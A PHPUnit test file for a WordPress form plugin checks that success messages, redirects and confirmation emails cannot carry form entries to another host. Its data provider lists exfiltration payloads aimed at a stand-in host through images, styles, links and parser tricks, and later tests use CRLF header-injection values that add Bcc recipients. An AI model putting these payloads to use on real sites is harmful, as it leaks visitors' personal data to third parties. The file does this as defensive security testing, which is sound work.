<?php
declare( strict_types=1 );

namespace Quayside\Tests\Blocks\Forms;

require_once __DIR__ . '/FormTestCase.php';

use Quayside\Blocks\Forms\Notifications\Confirmation;
use Quayside\Blocks\Forms\Notifications\SmartTags;

/**
 * Messages that an Editor designs tell no other host what was entered.
 */
final class ForeignTagsTest extends FormTestCase {
	private const FIELDS = [
		[ 'id' => 'n1', 'slug' => 'name', 'type' => 'input', 'label' => 'Name', 'value' => 'ada-entered' ],
		[ 'id' => 'e1', 'slug' => 'email', 'type' => 'email', 'label' => 'Email', 'value' => 'ada-entered@example.com' ],
	];

	/**
	 * @return array<string, array{string, bool}>
	 */
	public static function messages(): array {
		$home = home_url();
		return [
			'text'                   => [ '<p>Thanks {form:name}</p>', true ],
			'everything as text'     => [ 'You wrote: {all_data}', true ],
			'text of an image'       => [ '<img src="https://evil.example/x.png" alt="For {form:name}">', true ],
			'a page of this site'    => [ '<a href="/thanks/?who={form:name}">Go on</a>', true ],
			'this site by its name'  => [ "<a href=\"$home/thanks/?who={form:name}\">Go on</a>", true ],
			'this site by a tag'     => [ '<a href="{site_url}/thanks/?who={form:name}">Go on</a>', true ],
			'mail to the visitor'    => [ '<a href="mailto:{form:email}">Reply</a>', true ],
			'an image'               => [ '<img src="https://evil.example/?{form:name}">', false ],
			'an image, all data'     => [ '<img src="https://evil.example/?{all_data}">', false ],
			'an image, field:'       => [ "<img src='//evil.example/?{field:name}'>", false ],
			'an unquoted image'      => [ '<img src=https://evil.example/?{form:name}>', false ],
			'a lazy image'           => [ '<img data-src="https://evil.example/?{form:name}" src="/a.png">', false ],
			'a style'                => [ '<p style="background:url(https://evil.example/?{form:name})">Hi</p>', false ],
			'a link elsewhere'       => [ '<a href="https://evil.example/?{form:name}">Go on</a>', false ],
			'a host of the entry'    => [ '<a href="https://{form:name}.evil.example/">Go on</a>', false ],
			'a name that goes on'    => [ '<a href="{site_url}.evil.example/?{form:name}">Go on</a>', false ],
			'a user name'            => [ "<a href=\"$home@evil.example/?{form:name}\">Go on</a>", false ],
			'a backslash'            => [ '<a href="/\\evil.example/?{form:name}">Go on</a>', false ],
			'mail to somebody'       => [ '<a href="mailto:me@evil.example?body={form:name}">Reply</a>', false ],
			'a video'                => [ '<video src="https://evil.example/?{form:name}" poster="https://evil.example/?{form:name}"></video>', false ],
			'hidden from one parser' => [ '<title><img src="https://evil.example/?{form:name}"></title>', false ],
			'in a comment'           => [ '<!-- > --><img src="https://evil.example/?{form:name}"><!-- -->', false ],
			'halves of a tag'        => [ "<img src=\"https://evil.example/?{form:\0name}\">", false ],
			'a tag in a tag'         => [ '<img src="https://evil.example/?{for{form:name}m:name}">', false ],
		];
	}

	/**
	 * @dataProvider messages
	 */
	public function test_no_attribute_carries_an_entry_to_another_host( string $message, bool $stays ): void {
		$form = self::form( [], wp_slash( [ 'successMessage' => $message ] ) );
		$name = static fn ( string $html ): bool => str_contains( $html, 'ada-entered' );
		self::assertSame( $stays, $name( SmartTags::html( $message, $form, self::FIELDS, 7 ) ) );
		self::assertSame( $stays, $name( (string) self::submit( $form, [ 'name' => 'ada-entered', 'email' => 'ada-entered@example.com' ] )->get_data()['message'] ) );
	}

	public function test_redirects_take_no_tags(): void {
		$form = self::form( [], [ 'submitType' => 'custom url', 'successUrl' => 'https://evil.example/?{form:name}&{all_data}' ] );
		self::assertStringNotContainsString( 'ada-entered', (string) wp_json_encode( self::submit( $form, [ 'name' => 'ada-entered', 'email' => 'a@b.co' ] )->get_data() ) );
	}

	public function test_no_confirmation_goes_to_an_address_that_the_form_has_filled_in(): void {
		$blocks                       = self::contact();
		$blocks[1][1]['defaultValue'] = 'Me@evil.example';
		$form                         = self::form( $blocks, [ 'confirmation' => [ 'enabled' => true, 'body' => '{all_data}' ] ] );
		$sent                         = static fn ( string $email ): array => Confirmation::of( $form, [ [ 'value' => $email ] + self::FIELDS[1] ] );
		self::assertSame( [], $sent( 'me@evil.example' ) );
		self::assertCount( 1, $sent( 'ada@example.com' ) );
	}

	public function test_a_confirmation_has_one_recipient_whatever_its_texts_say(): void {
		$form = self::form(
			self::contact(),
			[
				'notifications' => [],
				'confirmation'  => [
					'enabled' => true,
					'subject' => "Hi {form:name}\r\nBcc: me@evil.example",
					'replyTo' => "{form:message}\r\nCc: me@evil.example",
				],
			]
		);
		$id   = self::submit( $form, [ 'name' => "Ada\r\nBcc: me@evil.example", 'email' => 'a@b.co', 'message' => "a@b.co\r\nBcc: me@evil.example" ] )->get_data()['data']['submission_id'];
		self::follow_up( $id );
		self::assertSame( [ [ 'a@b.co' ] ], array_column( $this->mails, 'to' ) );
		self::assertSame( [ 'Content-Type: text/html; charset=UTF-8' ], $this->mails[0]['headers'] );
		self::assertStringNotContainsString( "\n", $this->mails[0]['subject'] );
	}
}
